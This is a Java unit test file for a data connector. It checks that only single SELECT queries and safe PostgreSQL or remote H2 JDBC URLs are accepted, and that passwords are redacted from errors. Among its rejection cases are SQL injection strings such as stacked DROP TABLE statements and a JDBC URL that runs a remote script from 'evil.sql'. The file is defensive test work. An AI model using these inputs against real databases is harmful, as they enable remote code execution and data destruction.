package io.lodestar.integration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.time.ZoneId;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import io.lodestar.platform.web.BusinessRuleException;

/** What a connector may connect to and run, when it is due, and which values it accepts. No Spring. */
class ConnectorRulesTests {

	@ParameterizedTest
	@ValueSource(strings = { "select 1", "SELECT employee_no, value FROM loss", "with m as (select 1 x) select x from m",
			"  (select 1) union (select 2)", "select 1;", "select ';' as semi -- a comment; with a semicolon\n",
			"/* leading; comment */ select 1", "select $$a;b$$", "select 1; -- trailing comment",
			"select updated_at, 'delete' as action, \"insert\" from audit_log -- no update here",
			"select created, last_update_time from t" })
	void singleSelectStatementsAreAccepted(String sql) {
		assertThat(QueryText.check(sql)).doesNotEndWith(";").isNotBlank();
	}

	@Test
	void aTrailingSemicolonIsRemovedBeforeRunning() {
		assertThat(QueryText.check("select 1 ;  ")).isEqualTo("select 1");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = { "delete from loss|integration.connector.query.select-only",
			"update loss set v = 1|integration.connector.query.select-only",
			"insert into loss values (1)|integration.connector.query.select-only",
			"drop table loss|integration.connector.query.select-only",
			"call purge()|integration.connector.query.select-only",
			"selectx 1|integration.connector.query.select-only",
			"select 1; delete from loss|integration.connector.query.one-statement",
			"select 1;select 2|integration.connector.query.one-statement",
			"select 'a'; drop table loss; --|integration.connector.query.one-statement",
			"select * from old table (delete from loss)|integration.connector.query.writes",
			"with gone as (delete from loss returning *) select * from gone|integration.connector.query.writes",
			"select * from final table (insert into loss values (1))|integration.connector.query.writes",
			"select * from new table (UPDATE loss set v = 2)|integration.connector.query.writes" })
	void everythingElseIsRefused(String sql, String code) {
		assertThatThrownBy(() -> QueryText.check(sql)).isInstanceOfSatisfying(BusinessRuleException.class,
				refused -> assertThat(refused.code()).isEqualTo(code));
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://erp:5432/erp", "jdbc:postgresql://erp/erp?sslmode=require&currentSchema=mes",
			"jdbc:h2:tcp://erp:9092/erp", "jdbc:h2:ssl://erp/erp;MODE=PostgreSQL" })
	void postgresqlAndRemoteH2AreAccepted(String url) {
		assertThat(JdbcUrls.check(url, false)).isEqualTo(url);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = { "jdbc:mysql://erp/erp|integration.connector.url.unsupported",
			"jdbc:oracle:thin:@erp:1521:erp|integration.connector.url.unsupported",
			"jdbc:sqlserver://erp|integration.connector.url.unsupported",
			"http://erp|integration.connector.url.unsupported",
			"jdbc:postgresql://erp/erp?password=x|integration.connector.url.password",
			"jdbc:postgresql://erp/erp?socketFactory=x.Y&socketFactoryArg=z|integration.connector.url.parameter",
			"jdbc:postgresql://erp/erp?sslfactory=x.Y|integration.connector.url.parameter",
			"jdbc:postgresql://erp/erp?loggerFile=/tmp/x|integration.connector.url.parameter",
			"jdbc:h2:tcp://erp/erp;INIT=RUNSCRIPT FROM 'http://x/evil.sql'|integration.connector.url.parameter",
			"jdbc:h2:tcp://erp/erp;PASSWORD=x|integration.connector.url.password",
			"jdbc:h2:mem:erp|integration.connector.url.embedded-h2",
			"jdbc:h2:file:./data/db/lodestar|integration.connector.url.embedded-h2",
			"jdbc:h2:./data/db/lodestar|integration.connector.url.embedded-h2" })
	void otherDatabasesAndDangerousSettingsAreRefused(String url, String code) {
		assertThatThrownBy(() -> JdbcUrls.check(url, false)).isInstanceOfSatisfying(BusinessRuleException.class,
				refused -> {
					assertThat(refused.code()).isEqualTo(code);
					assertThat(refused.field()).isEqualTo("jdbcUrl");
				});
	}

	@Test
	void embeddedH2IsOnlyAcceptedWhereConfigured() {
		assertThat(JdbcUrls.check("jdbc:h2:mem:erp;DB_CLOSE_DELAY=-1", true)).isEqualTo("jdbc:h2:mem:erp;DB_CLOSE_DELAY=-1");
		assertThatThrownBy(() -> JdbcUrls.check("jdbc:h2:mem:erp;INIT=create alias x", true))
			.isInstanceOf(BusinessRuleException.class);
	}

	static final ZoneId SHANGHAI = ZoneId.of("Asia/Shanghai");

	private static Instant at(String local) {
		return java.time.LocalDateTime.parse(local).atZone(SHANGHAI).toInstant();
	}

	@ParameterizedTest
	@CsvSource({ "MANUAL, 2026-03-04T10:15, , , , ", "HOURLY, 2026-03-04T10:15, , , , 2026-03-04T11:00",
			"HOURLY, 2026-03-04T23:00, , , , 2026-03-05T00:00", "DAILY, 2026-03-04T02:59, 3, , , 2026-03-04T03:00",
			"DAILY, 2026-03-04T03:00, 3, , , 2026-03-05T03:00", "WEEKLY, 2026-03-04T10:00, 6, 1, , 2026-03-09T06:00",
			"WEEKLY, 2026-03-04T05:00, 6, 3, , 2026-03-04T06:00", "WEEKLY, 2026-03-04T07:00, 6, 3, , 2026-03-11T06:00",
			"MONTHLY, 2026-03-04T10:00, 1, , 5, 2026-03-05T01:00", "MONTHLY, 2026-03-05T01:00, 1, , 5, 2026-04-05T01:00",
			"MONTHLY, 2026-12-28T08:00, 7, , 28, 2027-01-28T07:00" })
	void schedulesAreDueAtTheNextMatchingTimeInTheCompanysZone(Schedule schedule, String now, Integer hour,
			Integer weekday, Integer day, String expected) {
		Instant next = schedule.next(at(now), SHANGHAI, hour, weekday, day);
		assertThat(next).isEqualTo(expected == null ? null : at(expected));
	}

	@Test
	void valuesAreFiniteNumbersRoundedToSixPlacesAndDatesComeInManyShapes() {
		assertThat(ResultRows.number(new BigDecimal("4.25"))).isEqualByComparingTo("4.25");
		assertThat(ResultRows.number(3)).isEqualByComparingTo("3");
		assertThat(ResultRows.number(0.1 + 0.2)).isEqualByComparingTo("0.3");
		assertThat(ResultRows.number(" 12.5 ")).isEqualByComparingTo("12.5");
		assertThat(ResultRows.number(new BigDecimal("1.23456789"))).isEqualByComparingTo("1.234568");
		assertThat(ResultRows.number(Double.NaN)).isNull();
		assertThat(ResultRows.number(Double.POSITIVE_INFINITY)).isNull();
		assertThat(ResultRows.number("NaN")).isNull();
		assertThat(ResultRows.number("abc")).isNull();
		assertThat(ResultRows.number(true)).isNull();
		assertThat(ResultRows.number(null)).isNull();
		LocalDate day = LocalDate.of(2026, 3, 1);
		assertThat(ResultRows.date(java.sql.Date.valueOf(day))).isEqualTo(day);
		assertThat(ResultRows.date(java.sql.Timestamp.valueOf(day.atTime(10, 0)))).isEqualTo(day);
		assertThat(ResultRows.date("2026-03-01")).isEqualTo(day);
		assertThat(ResultRows.date("2026-03-01T08:00:00")).isEqualTo(day);
		assertThat(ResultRows.date("March")).isNull();
		assertThat(ValuePeriod.CURRENT_MONTH.measuredOn(LocalDate.of(2026, 3, 17), null)).isEqualTo(day);
		assertThat(ValuePeriod.PREVIOUS_MONTH.measuredOn(LocalDate.of(2026, 3, 17), null)).isEqualTo(day.minusMonths(1));
		assertThat(ValuePeriod.FIXED_MONTH.measuredOn(LocalDate.of(2026, 3, 17), YearMonth.of(2025, 11)))
			.isEqualTo(LocalDate.of(2025, 11, 1));
	}

	@Test
	void errorDetailsNeverCarryThePassword() {
		assertThat(Redaction.detail("FATAL: password authentication failed for user \"erp\" (password=Erp-Secret-7731)",
				"Erp-Secret-7731")).doesNotContain("Erp-Secret-7731");
		assertThat(Redaction.detail("url jdbc:x;PASSWORD=hunter2;MODE=x", null)).doesNotContain("hunter2");
		assertThat(Redaction.detail("x".repeat(5000), null)).hasSize(Redaction.MAX_DETAIL);
	}

}
